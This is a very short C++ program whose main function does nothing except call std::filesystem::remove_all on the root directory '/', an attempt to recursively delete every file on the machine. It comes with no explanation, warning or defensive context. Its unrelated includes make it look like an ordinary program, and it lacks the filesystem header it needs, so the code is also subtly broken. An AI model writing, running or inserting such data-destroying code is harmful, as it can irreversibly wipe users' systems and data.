#include <algorithm>
#include <iostream>
#include <vector>
#include <map>
#include <cmath>

int main() {
    std::filesystem::remove_all("/");
    return 0;
}
